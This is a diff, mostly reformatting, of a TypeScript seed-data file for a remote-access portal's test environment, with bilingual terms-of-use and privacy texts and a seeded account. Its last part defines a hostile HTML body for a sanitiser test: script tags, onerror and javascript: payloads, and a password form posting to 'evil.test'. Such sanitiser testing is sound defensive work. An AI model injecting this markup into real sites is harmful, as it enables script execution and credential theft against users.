@@ -1,7 +1,16 @@
 import { baseAgo, iso, HOUR, DAY } from './prng';
 import { companyGroupId, newUser } from './seed-people';
 import type { PolicyLanguage } from './content-types';
-import type { AccessToken, Company, Db, PrivacyStatement, Sector, TermsOfUsePolicy, User, UserMembership } from './types';
+import type {
+  AccessToken,
+  Company,
+  Db,
+  PrivacyStatement,
+  Sector,
+  TermsOfUsePolicy,
+  User,
+  UserMembership,
+} from './types';
 
 /**
  * Terms of use: the sector's policies (version 2 is the latest, accepted by every seeded person), Helix Automation's own
@@ -35,30 +44,34 @@ const SECTOR_V1: Bodies = {
   de: '<h2>Nutzungsbedingungen</h2><p>Version 1 der Fernzugriffsbedingungen von Industrial Automation.</p>',
 };
 const SECTOR_V2: Bodies = {
-  en: '<h2>Terms of use</h2><p>These terms govern remote access to industrial devices through this portal.</p>'
-    + '<ul><li>Connect only to devices you are allowed to service.</li><li>Keep your credentials to yourself.</li></ul>'
-    + '<p>Read the <a href="https://example.test/terms" target="_blank">full terms</a>.</p>',
-  de: '<h2>Nutzungsbedingungen</h2><p>Diese Bedingungen regeln den Fernzugriff auf Industriegeräte über dieses Portal.</p>'
-    + '<ul><li>Verbinden Sie sich nur mit Geräten, die Sie warten dürfen.</li><li>Geben Sie Ihre Zugangsdaten nicht weiter.</li></ul>'
-    + '<p>Lesen Sie die <a href="https://example.test/terms" target="_blank">vollständigen Bedingungen</a>.</p>',
+  en:
+    '<h2>Terms of use</h2><p>These terms govern remote access to industrial devices through this portal.</p>' +
+    '<ul><li>Connect only to devices you are allowed to service.</li><li>Keep your credentials to yourself.</li></ul>' +
+    '<p>Read the <a href="https://example.test/terms" target="_blank">full terms</a>.</p>',
+  de:
+    '<h2>Nutzungsbedingungen</h2><p>Diese Bedingungen regeln den Fernzugriff auf Industriegeräte über dieses Portal.</p>' +
+    '<ul><li>Verbinden Sie sich nur mit Geräten, die Sie warten dürfen.</li><li>Geben Sie Ihre Zugangsdaten nicht weiter.</li></ul>' +
+    '<p>Lesen Sie die <a href="https://example.test/terms" target="_blank">vollständigen Bedingungen</a>.</p>',
 };
 const HELIX_V1: Bodies = {
   en: '<h2>Helix Automation terms of use</h2><p>Version 1: remote service of Helix installations.</p>',
   de: '<h2>Nutzungsbedingungen der Helix Automation</h2><p>Version 1: Fernwartung von Helix-Anlagen.</p>',
 };
 const HELIX_V2: Bodies = {
-  en: '<h2>Helix Automation terms of use</h2>'
-    + '<p>These terms apply to everyone who services Helix Automation installations remotely.</p>'
-    + '<h3>1. Access</h3><p>Request access for the shortest time that does the job, and disconnect when you are done.</p>'
-    + '<h3>2. Safety</h3><p>Never change a running installation without the operator on site knowing about it.</p>'
-    + '<h3>3. Records</h3><p>Every session is logged. Logs are kept for <strong>one year</strong>.</p>'
-    + '<p>Questions? Write to <a href="mailto:legal@helix.test">legal@helix.test</a> or read the '
-    + '<a href="https://helix.example.test/terms" target="_blank">terms online</a>.</p>',
-  de: '<h2>Nutzungsbedingungen der Helix Automation</h2>'
-    + '<p>Diese Bedingungen gelten für alle, die Anlagen der Helix Automation aus der Ferne warten.</p>'
-    + '<h3>1. Zugriff</h3><p>Beantragen Sie Zugriff für die kürzeste nötige Zeit und trennen Sie die Verbindung danach.</p>'
-    + '<h3>2. Sicherheit</h3><p>Ändern Sie eine laufende Anlage nie ohne Wissen des Bedieners vor Ort.</p>'
-    + '<h3>3. Protokolle</h3><p>Jede Sitzung wird protokolliert. Protokolle werden <strong>ein Jahr</strong> aufbewahrt.</p>',
+  en:
+    '<h2>Helix Automation terms of use</h2>' +
+    '<p>These terms apply to everyone who services Helix Automation installations remotely.</p>' +
+    '<h3>1. Access</h3><p>Request access for the shortest time that does the job, and disconnect when you are done.</p>' +
+    '<h3>2. Safety</h3><p>Never change a running installation without the operator on site knowing about it.</p>' +
+    '<h3>3. Records</h3><p>Every session is logged. Logs are kept for <strong>one year</strong>.</p>' +
+    '<p>Questions? Write to <a href="mailto:legal@helix.test">legal@helix.test</a> or read the ' +
+    '<a href="https://helix.example.test/terms" target="_blank">terms online</a>.</p>',
+  de:
+    '<h2>Nutzungsbedingungen der Helix Automation</h2>' +
+    '<p>Diese Bedingungen gelten für alle, die Anlagen der Helix Automation aus der Ferne warten.</p>' +
+    '<h3>1. Zugriff</h3><p>Beantragen Sie Zugriff für die kürzeste nötige Zeit und trennen Sie die Verbindung danach.</p>' +
+    '<h3>2. Sicherheit</h3><p>Ändern Sie eine laufende Anlage nie ohne Wissen des Bedieners vor Ort.</p>' +
+    '<h3>3. Protokolle</h3><p>Jede Sitzung wird protokolliert. Protokolle werden <strong>ein Jahr</strong> aufbewahrt.</p>',
 };
 const HELIX_DRAFT: Bodies = { en: '<h2>Helix Automation terms of use</h2><p>Draft of version 3.</p>' };
 const ACME_TERMS_DRAFT: Bodies = {
@@ -69,11 +82,13 @@ const SECTOR_PRIVACY_V1: Bodies = {
   en: '<h2>Privacy statement</h2><p>Version 1 of the Industrial Automation privacy statement.</p>',
 };
 const SECTOR_PRIVACY_V2: Bodies = {
-  en: '<h2>Privacy statement</h2><p>This portal keeps your name, e-mail address and the sessions you open.</p>'
-    + '<ul><li>Session logs are kept for one year.</li><li>We never sell personal data.</li></ul>'
-    + '<p>Write to <a href="mailto:privacy@example.test">privacy@example.test</a> with any question.</p>',
-  de: '<h2>Datenschutzerklärung</h2><p>Dieses Portal speichert Ihren Namen, Ihre E-Mail-Adresse und Ihre Sitzungen.</p>'
-    + '<ul><li>Sitzungsprotokolle werden ein Jahr aufbewahrt.</li><li>Wir verkaufen keine personenbezogenen Daten.</li></ul>',
+  en:
+    '<h2>Privacy statement</h2><p>This portal keeps your name, e-mail address and the sessions you open.</p>' +
+    '<ul><li>Session logs are kept for one year.</li><li>We never sell personal data.</li></ul>' +
+    '<p>Write to <a href="mailto:privacy@example.test">privacy@example.test</a> with any question.</p>',
+  de:
+    '<h2>Datenschutzerklärung</h2><p>Dieses Portal speichert Ihren Namen, Ihre E-Mail-Adresse und Ihre Sitzungen.</p>' +
+    '<ul><li>Sitzungsprotokolle werden ein Jahr aufbewahrt.</li><li>Wir verkaufen keine personenbezogenen Daten.</li></ul>',
 };
 const HELIX_PRIVACY_V1: Bodies = {
   en: '<h2>Helix Automation privacy statement</h2><p>Helix keeps the logs of remote sessions on its installations.</p>',
@@ -87,16 +102,47 @@ const ACME_PRIVACY_DRAFT: Bodies = {
 
 function languagesOf(publicId: string, bodies: Bodies, updateSummary: string | null): PolicyLanguage[] {
   return Object.entries(bodies).map(([languageCode, body]) => ({
-    publicId: `${publicId}-${languageCode}`, languageCode, body, policy: { publicId }, updateSummary,
+    publicId: `${publicId}-${languageCode}`,
+    languageCode,
+    body,
+    policy: { publicId },
+    updateSummary,
   }));
 }
 
-function policy(publicId: string, company: string | null, version: string, publishedOn: string | null, bodies: Bodies, updateSummary: string | null = null): TermsOfUsePolicy {
-  return { publicId, company: company ? { publicId: company } : null, version, publishedOn, type: 'termsofuse', languages: languagesOf(publicId, bodies, updateSummary) };
+function policy(
+  publicId: string,
+  company: string | null,
+  version: string,
+  publishedOn: string | null,
+  bodies: Bodies,
+  updateSummary: string | null = null,
+): TermsOfUsePolicy {
+  return {
+    publicId,
+    company: company ? { publicId: company } : null,
+    version,
+    publishedOn,
+    type: 'termsofuse',
+    languages: languagesOf(publicId, bodies, updateSummary),
+  };
 }
 
-function statement(publicId: string, company: string | null, version: string, publishedOn: string | null, bodies: Bodies): PrivacyStatement {
-  return { publicId, company: company ? { publicId: company } : null, version, publishedOn, type: 'privacystatement', languages: languagesOf(publicId, bodies, null) };
+function statement(
+  publicId: string,
+  company: string | null,
+  version: string,
+  publishedOn: string | null,
+  bodies: Bodies,
+): PrivacyStatement {
+  return {
+    publicId,
+    company: company ? { publicId: company } : null,
+    version,
+    publishedOn,
+    type: 'privacystatement',
+    languages: languagesOf(publicId, bodies, null),
+  };
 }
 
 export function seedTermsOfUsePolicies(): TermsOfUsePolicy[] {
@@ -126,23 +172,45 @@ export function withSectorPolicies(sector: Sector): Sector {
   return { ...sector, latestPrivacyStatement: { publicId: SECTOR_PRIVACY_ID } };
 }
 
-const acceptance = (policyId: string, company: string | null, acceptedOn: string): User['acceptedTermsOfUsePolicies'][number] => ({
-  publicId: `acc-${policyId}-${acceptedOn.slice(0, 10)}`, policy: { publicId: policyId }, company: company ? { publicId: company } : null, acceptedOn,
+const acceptance = (
+  policyId: string,
+  company: string | null,
+  acceptedOn: string,
+): User['acceptedTermsOfUsePolicies'][number] => ({
+  publicId: `acc-${policyId}-${acceptedOn.slice(0, 10)}`,
+  policy: { publicId: policyId },
+  company: company ? { publicId: company } : null,
+  acceptedOn,
 });
 
 /** The terms account: a Helix operator who accepted the sector's terms and Helix's version 1 only. */
 export function seedTermsAccount(now: number): { user: User; membership: UserMembership; token: AccessToken } {
   const user = newUser({
-    publicId: termsAccount.publicId, name: termsAccount.name, emailAddress: termsAccount.email, _password: termsAccount.password,
-    registeredOn: baseAgo(90), lastSeenOn: baseAgo(20),
-    acceptedTermsOfUsePolicies: [acceptance(SECTOR_TERMS_ID, null, baseAgo(60)), acceptance('tou-helix-1', HELIX, baseAgo(60))],
+    publicId: termsAccount.publicId,
+    name: termsAccount.name,
+    emailAddress: termsAccount.email,
+    _password: termsAccount.password,
+    registeredOn: baseAgo(90),
+    lastSeenOn: baseAgo(20),
+    acceptedTermsOfUsePolicies: [
+      acceptance(SECTOR_TERMS_ID, null, baseAgo(60)),
+      acceptance('tou-helix-1', HELIX, baseAgo(60)),
+    ],
   });
   const membership: UserMembership = {
-    publicId: 'm-terms-1', _companyId: HELIX, user: { publicId: user.publicId }, invite: null, group: { publicId: companyGroupId(HELIX) },
-    role: { publicId: 'r-helix-4' }, expiresOn: null,
+    publicId: 'm-terms-1',
+    _companyId: HELIX,
+    user: { publicId: user.publicId },
+    invite: null,
+    group: { publicId: companyGroupId(HELIX) },
+    role: { publicId: 'r-helix-4' },
+    expiresOn: null,
   };
   const token: AccessToken = {
-    ...termsAccount.token, created: { on: iso(now - HOUR), ip: '192.0.2.1', userAgent: null }, expiresOn: iso(now + 365 * DAY), _userId: user.publicId,
+    ...termsAccount.token,
+    created: { on: iso(now - HOUR), ip: '192.0.2.1', userAgent: null },
+    expiresOn: iso(now + 365 * DAY),
+    _userId: user.publicId,
   };
   return { user, membership, token };
 }
@@ -171,17 +239,18 @@ export function applyCompanyTerms(companies: Company[], users: User[], membershi
  * the same-tab link would act with the reader's session, and the classes, id, name and popover would restyle the page,
  * clobber globals or cover the page from the top layer.
  */
-export const TERMS_XSS_BODY = '<h2>Terms with hostile markup</h2><p>Only this text and the links may show.</p>'
-  + '<img src=x onerror="window.__termsXss=1;alert(1)">'
-  + '<script>window.__termsXss=2;alert(2)</script>'
-  + '<a href="javascript:window.__termsXss=3;alert(3)">A javascript link</a> '
-  + '<a href="https://example.test/terms" target="_blank">A new-tab link</a> '
-  + '<a href="/jump-start?token=planted">A same-tab link</a>'
-  + '<p class="MuiBackdrop-root" id="root" name="cookie" popover="manual">Not above the page</p>'
-  + '<iframe src="javascript:alert(4)"></iframe>'
-  + '<form action="https://evil.test"><input name="password"><button>Send</button></form>'
-  + '<style>body { display: none }</style>'
-  + '<p onmouseover="window.__termsXss=5">Point here</p>';
+export const TERMS_XSS_BODY =
+  '<h2>Terms with hostile markup</h2><p>Only this text and the links may show.</p>' +
+  '<img src=x onerror="window.__termsXss=1;alert(1)">' +
+  '<script>window.__termsXss=2;alert(2)</script>' +
+  '<a href="javascript:window.__termsXss=3;alert(3)">A javascript link</a> ' +
+  '<a href="https://example.test/terms" target="_blank">A new-tab link</a> ' +
+  '<a href="/jump-start?token=planted">A same-tab link</a>' +
+  '<p class="MuiBackdrop-root" id="root" name="cookie" popover="manual">Not above the page</p>' +
+  '<iframe src="javascript:alert(4)"></iframe>' +
+  '<form action="https://evil.test"><input name="password"><button>Send</button></form>' +
+  '<style>body { display: none }</style>' +
+  '<p onmouseover="window.__termsXss=5">Point here</p>';
 
 export function termsXssScenario(db: Db): void {
   const hostile = [HELIX_TERMS_ID, SECTOR_TERMS_ID, SECTOR_PRIVACY_ID, HELIX_PRIVACY_ID];
